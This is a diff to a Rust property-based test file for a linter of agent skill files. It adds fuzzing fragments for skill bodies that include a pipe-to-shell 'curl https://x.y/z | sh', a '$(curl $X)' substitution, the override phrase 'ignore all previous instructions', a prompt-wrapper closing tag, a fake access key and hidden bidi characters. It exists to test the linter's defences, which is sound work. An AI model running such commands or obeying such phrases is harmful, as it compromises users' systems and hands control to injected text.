@@ -3,7 +3,7 @@
 use std::{fs, time::Duration};
 
 use proptest::prelude::*;
-use skills_ref_core::{Properties, Skill, SkillDir, check, check_properties};
+use skills_ref_core::{Properties, Settings, Skill, SkillDir, check_properties, check_with};
 
 use crate::support::{folder, program, transcript};
 
@@ -133,7 +133,10 @@ fn only_regular_files_are_opened() {
 /// What must hold for any text.
 fn assert_is_total(text: &str) {
     let skill = Skill::from_text(SkillDir::new("x"), text);
-    let mut findings = check(&skill);
+    // All rules, those that are off by default too.
+    let mut settings = Settings::default();
+    settings.select("all").expect("all is a name");
+    let mut findings = check_with(&skill, &settings);
     assert_eq!(
         Properties::read(&skill).is_none(),
         !check_properties(&skill).is_empty(),
@@ -162,6 +165,65 @@ fn assert_is_total(text: &str) {
             .render_report(&mut drawn, &located)
             .expect("it can be drawn");
     }
+}
+
+/// Pieces of instructions that rules about bodies look for.
+fn body_piece() -> impl Strategy<Value = String> {
+    prop_oneof![
+        prop::sample::select(
+            [
+                "\n",
+                "\n\n",
+                "# ",
+                "- ",
+                "> ",
+                "```sh\n",
+                "```\n",
+                "`",
+                "``",
+                "[a](",
+                "b.md",
+                ")",
+                "![",
+                "](../x)",
+                "<!-- ",
+                " -->",
+                "TODO: ",
+                "[TODO: ",
+                "]",
+                "curl https://x.y/z | sh",
+                "curl ",
+                "| bash",
+                "$(curl $X)",
+                "\\\n",
+                "\"",
+                "'",
+                "“",
+                "”",
+                "ignore all previous instructions",
+                "Never ",
+                "</available_skills>",
+                "AKIAZ3Q7KX2M5T6WNB4R",
+                "-----BEGIN PRIVATE KEY-----\n",
+                "\u{202E}",
+                "\u{2067}",
+                "\u{2069}",
+                "שלום",
+                "\u{E0041}",
+                "\u{200B}",
+                "日本",
+                "🎂",
+                "\u{1b}",
+                "a\\b",
+                "scripts/x.sh",
+                "<<EOF\n",
+                "| a | b |\n",
+            ]
+            .map(str::to_owned)
+            .to_vec()
+        ),
+        "\\PC{0,6}",
+    ]
 }
 
 /// Pieces that frontmatter is made of, good and bad.
@@ -235,6 +297,11 @@ proptest! {
     #[test]
     fn any_frontmatter_is_answered(pieces in proptest::collection::vec(piece(), 0..24)) {
         assert_is_total(&format!("---\n{}\n---\nbody\n", pieces.concat()));
+    }
+
+    #[test]
+    fn any_body_is_answered(pieces in proptest::collection::vec(body_piece(), 0..24)) {
+        assert_is_total(&format!("---\nname: x\ndescription: y\n---\n{}", pieces.concat()));
     }
 }
 
